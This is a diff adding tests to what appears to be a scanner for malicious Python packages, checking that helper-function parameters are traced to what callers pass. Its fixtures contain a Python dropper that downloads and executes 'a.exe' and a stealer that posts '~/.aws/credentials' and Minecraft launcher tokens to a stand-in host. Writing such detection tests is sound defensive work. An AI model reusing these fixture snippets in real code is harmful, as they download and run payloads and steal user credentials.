@@ -348,3 +348,42 @@ describe('PY-006: install-time network use at an encoded address', () => {
     expect(f?.category).toBe('network');
   });
 });
+
+describe('parameters of local helpers fold to what their callers pass', () => {
+  const dropper = (calls: string) =>
+    `import requests, subprocess, os\ndef download(url, filename):\n    r = requests.get(url)\n    with open(filename, "wb") as f:\n        f.write(r.content)\ndef run(filename):\n    subprocess.Popen([os.path.abspath(filename)])\n${calls}`;
+
+  it('a download helper and a run helper called with the same constant are download-and-run', async () => {
+    const r = await scanSdist({
+      'pkg/__init__.py': dropper('download("https://example.invalid/a.exe", "a.exe")\nrun("a.exe")\n'),
+      'setup.py': SETUP,
+    });
+    const f = findingsOf(r, 'PY-005')[0];
+    expect(f?.severity).toBe('critical');
+    expect(f?.evidence?.target).toBe('a.exe');
+  });
+
+  it('callers passing different values fold to nothing', async () => {
+    const r = await scanSdist({
+      'pkg/__init__.py': dropper('download(u1, "report.csv")\ndownload(u2, "data.json")\n'),
+      'setup.py': SETUP,
+    });
+    expect(findingsOf(r, 'PY-005')).toHaveLength(0);
+  });
+
+  const reader = (paths: string[]) =>
+    `import os, requests\ndef read(p):\n    with open(p, "rb") as f:\n        return f.read()\ndef send(url, data):\n    requests.post(url, files={"f": data})\n${paths.map((p) => `send("https://x.example.invalid", read(os.path.expanduser(${JSON.stringify(p)})))`).join('\n')}\n`;
+
+  it('a read helper called with credential paths taints what it returns (PY-008)', async () => {
+    const r = await scanSdist({
+      'pkg/__init__.py': reader(['~/.aws/credentials', '~/.minecraft/launcher_accounts.json']),
+      'setup.py': SETUP,
+    });
+    expect(findingsOf(r, 'PY-008')[0]?.severity).toBe('critical');
+  });
+
+  it('the same helper reading ordinary files is no flow', async () => {
+    const r = await scanSdist({ 'pkg/__init__.py': reader(['~/notes.txt', 'data.json']), 'setup.py': SETUP });
+    expect(findingsOf(r, 'PY-008')).toHaveLength(0);
+  });
+});
